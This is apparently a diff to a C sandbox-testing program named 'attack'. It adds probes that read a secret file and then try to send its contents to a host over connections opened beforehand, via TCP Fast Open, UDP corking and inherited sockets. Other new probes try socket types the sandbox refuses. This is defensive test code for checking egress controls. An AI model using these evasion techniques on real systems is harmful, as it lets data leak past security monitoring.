@@ -608,6 +608,165 @@ static void *race_sender(void *arg) {
     return arg;
 }
 
+// ---- implicit connects and sends (netgap, socket-kinds, inherited) ----
+// The secret's bytes, prefixed: what an attacker would send after the taint ("-":
+// no secret is read, for the control run outside the sandbox).
+static char gap_payload[300];
+static void gap_secret(const char *path) {
+    strcpy(gap_payload, "AFTER:");
+    if (!strcmp(path, "-")) {
+        strcat(gap_payload, "TOP-SECRET(control)\n");
+        return;
+    }
+    int fd = open(path, O_RDONLY);
+    report("open secret", fd);
+    if (fd >= 0) {
+        ssize_t n = read(fd, gap_payload + 6, sizeof gap_payload - 8);
+        if (n > 0) gap_payload[6 + n] = 0;
+        close(fd);
+    }
+    usleep(100000);
+}
+
+static void gap_write_after(int s) {
+    report("write after", write(s, gap_payload, strlen(gap_payload)));
+}
+
+static void netgap(const char *how, const char *ip, int port, const char *secret) {
+    struct sockaddr_in sa;
+    int one = 1, zero = 0;
+    if (!strcmp(how, "tfo-sendto") || !strcmp(how, "tfo-sendmsg")) {
+        int s = inet_socket(SOCK_STREAM, ip, port, &sa);
+        if (!strcmp(how, "tfo-sendto")) {
+            report("tfo send", sendto(s, "before\n", 7, MSG_FASTOPEN, (struct sockaddr *)&sa, sizeof sa));
+        } else {
+            struct iovec iov = {"before\n", 7};
+            struct msghdr m = {0};
+            m.msg_name = &sa;
+            m.msg_namelen = sizeof sa;
+            m.msg_iov = &iov;
+            m.msg_iovlen = 1;
+            report("tfo send", sendmsg(s, &m, MSG_FASTOPEN));
+        }
+        usleep(100000);
+        gap_secret(secret);
+        gap_write_after(s);
+        report("send after", send(s, gap_payload, strlen(gap_payload), 0));
+        return;
+    }
+    if (!strcmp(how, "tfo-connect")) {
+        int s = inet_socket(SOCK_STREAM, ip, port, &sa);
+        report("tfo opt", setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one));
+        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
+        report("write before", write(s, "before\n", 7));
+        usleep(100000);
+        gap_secret(secret);
+        gap_write_after(s);
+        return;
+    }
+    // UDP corking: a datagram that arrives whole proves the channel first, then
+    // a pending one is started before the taint and finished after it.
+    int udp_connected = !strstr(how, "unconnected");
+    int s = inet_socket(SOCK_DGRAM, ip, port, &sa);
+    if (udp_connected) {
+        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
+        report("write before", write(s, "before\n", 7));
+    } else {
+        report("write before", sendto(s, "before\n", 7, 0, (struct sockaddr *)&sa, sizeof sa));
+    }
+    int cork = !strncmp(how, "udp-cork", 8);
+    if (cork) report("cork opt", setsockopt(s, IPPROTO_UDP, UDP_CORK, &one, sizeof one));
+    int more = cork ? 0 : MSG_MORE;
+    if (udp_connected)
+        report("pending send", send(s, "pending;", 8, more));
+    else
+        report("pending send", sendto(s, "pending;", 8, more, (struct sockaddr *)&sa, sizeof sa));
+    gap_secret(secret);
+    gap_write_after(s);
+    if (cork) report("uncork", setsockopt(s, IPPROTO_UDP, UDP_CORK, &zero, sizeof zero));
+}
+
+// Tries each socket kind the default policy refuses: prints one line each.
+static void socket_kinds(void) {
+    report("socket packet", socket(AF_PACKET, SOCK_RAW, htons(3)));
+    report("socket inet raw", socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
+    report("socket inet raw icmp", socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP));
+    report("socket inet6 raw", socket(AF_INET6, SOCK_RAW, IPPROTO_RAW));
+    report("socket inet icmp ping", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
+    report("socket inet sctp stream", socket(AF_INET, SOCK_STREAM, 132));
+    report("socket inet sctp seqpacket", socket(AF_INET, SOCK_SEQPACKET, 132));
+    report("socket inet6 sctp", socket(AF_INET6, SOCK_STREAM, 132));
+    report("socket inet mptcp", socket(AF_INET, SOCK_STREAM, 262));
+    report("socket inet6 mptcp", socket(AF_INET6, SOCK_STREAM, 262));
+    report("socket inet udplite", socket(AF_INET, SOCK_DGRAM, 136));
+    report("socket packet (old)", socket(AF_INET, SOCK_PACKET, htons(3)));
+    report("socket vsock", socket(40, SOCK_STREAM, 0));
+    report("socket key", socket(15, SOCK_RAW, 2));
+    report("socket tipc", socket(30, SOCK_RDM, 0));
+    report("socket rds", socket(21, SOCK_SEQPACKET, 0));
+    // Still allowed: the kinds endpoint rules describe, and netlink (route).
+    report("socket inet tcp", socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0));
+    report("socket inet udp", socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP));
+    report("socket inet6 tcp", socket(AF_INET6, SOCK_STREAM, IPPROTO_TCP));
+    report("socket unix", socket(AF_UNIX, SOCK_DGRAM, 0));
+    report("socket netlink", socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, 0));
+}
+
+
+// ---- network conformance probe (net-probe) ----
+// One request "VERB:KIND:ADDR": VERB connect|send|bind; KIND tcp|udp (inet),
+// unix|unixd (pathname, stream|datagram), abs|absd (abstract, stream|datagram);
+// ADDR IP:PORT, a path, or an abstract name. Prints "REQ: ok=" or "REQ: errno=".
+static socklen_t probe_addr(const char *kind, const char *addr, struct sockaddr_storage *ss) {
+    memset(ss, 0, sizeof *ss);
+    if (!strcmp(kind, "tcp") || !strcmp(kind, "udp")) {
+        char ip[64];
+        snprintf(ip, sizeof ip, "%s", addr);
+        char *colon = strrchr(ip, ':');
+        if (!colon) return 0;
+        *colon = 0;
+        struct sockaddr_in *sa = (struct sockaddr_in *)ss;
+        sa->sin_family = AF_INET;
+        sa->sin_port = htons(atoi(colon + 1));
+        inet_pton(AF_INET, ip, &sa->sin_addr);
+        return sizeof *sa;
+    }
+    struct sockaddr_un *un = (struct sockaddr_un *)ss;
+    un->sun_family = AF_UNIX;
+    if (kind[0] == 'a') {
+        size_t n = strlen(addr);
+        if (n > sizeof un->sun_path - 1) n = sizeof un->sun_path - 1;
+        memcpy(un->sun_path + 1, addr, n);
+        return offsetof(struct sockaddr_un, sun_path) + 1 + n;
+    }
+    snprintf(un->sun_path, sizeof un->sun_path, "%s", addr);
+    return sizeof *un;
+}
+
+static void probe(const char *req) {
+    char buf[300];
+    snprintf(buf, sizeof buf, "%s", req);
+    char *verb = buf, *kind = strchr(buf, ':');
+    if (!kind) return;
+    *kind++ = 0;
+    char *addr = strchr(kind, ':');
+    if (!addr) return;
+    *addr++ = 0;
+    int inet = !strcmp(kind, "tcp") || !strcmp(kind, "udp");
+    int dgram = !strcmp(kind, "udp") || !strcmp(kind, "unixd") || !strcmp(kind, "absd");
+    int s = socket(inet ? AF_INET : AF_UNIX, dgram ? SOCK_DGRAM : SOCK_STREAM, 0);
+    if (s < 0) { report(req, s); return; }
+    struct sockaddr_storage ss;
+    socklen_t len = probe_addr(kind, addr, &ss);
+    long r;
+    if (!strcmp(verb, "connect")) r = connect(s, (struct sockaddr *)&ss, len);
+    else if (!strcmp(verb, "send")) r = sendto(s, "probe\n", 6, MSG_DONTWAIT, (struct sockaddr *)&ss, len);
+    else if (!strcmp(verb, "bind")) r = bind(s, (struct sockaddr *)&ss, len);
+    else r = -1, errno = EINVAL;
+    report(req, r);
+    close(s);
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
         fprintf(stderr, "usage: attack NAME [ARGS]\n");
@@ -1110,6 +1269,44 @@ int main(int argc, char **argv) {
     if (!strcmp(name, "netleak") && argc == 6) {
         // netleak VARIANT IP PORT SECRET_FILE
         return netleak(argv[2], argv[3], atoi(argv[4]), argv[5]);
+    }
+    if (!strcmp(name, "net-probe") && argc >= 3) {
+        // net-probe SECRET|- REQ...: reads the secret (unless "-"), then makes
+        // each request (see probe).
+        if (strcmp(argv[2], "-")) {
+            int fd = open(argv[2], O_RDONLY);
+            report("open secret", fd);
+            if (fd >= 0) close(fd);
+        }
+        for (int i = 3; i < argc; i++) probe(argv[i]);
+        return 0;
+    }
+    if (!strcmp(name, "netgap") && argc == 6) {
+        // netgap HOW IP PORT SECRET|-: an implicit connect or send (TCP Fast Open,
+        // UDP corking) started before the secret is read and used after it.
+        netgap(argv[2], argv[3], atoi(argv[4]), argv[5]);
+        return 0;
+    }
+    if (!strcmp(name, "socket-kinds")) {
+        socket_kinds();
+        return 0;
+    }
+    if (!strcmp(name, "inherited") && argc >= 4) {
+        // inherited SECRET FD...: writes on sockets inherited at those numbers,
+        // before and after reading the secret.
+        for (int i = 3; i < argc; i++) {
+            char what[64];
+            snprintf(what, sizeof what, "write before fd %s", argv[i]);
+            report(what, write(atoi(argv[i]), "before\n", 7));
+        }
+        usleep(100000);
+        gap_secret(argv[2]);
+        for (int i = 3; i < argc; i++) {
+            char what[64];
+            snprintf(what, sizeof what, "write after fd %s", argv[i]);
+            report(what, write(atoi(argv[i]), gap_payload, strlen(gap_payload)));
+        }
+        return 0;
     }
     if (!strcmp(name, "hold") && argc == 6) {
         // hold tcp|udp IP PORT SECRET_FILE: connect, send, read a secret, send again
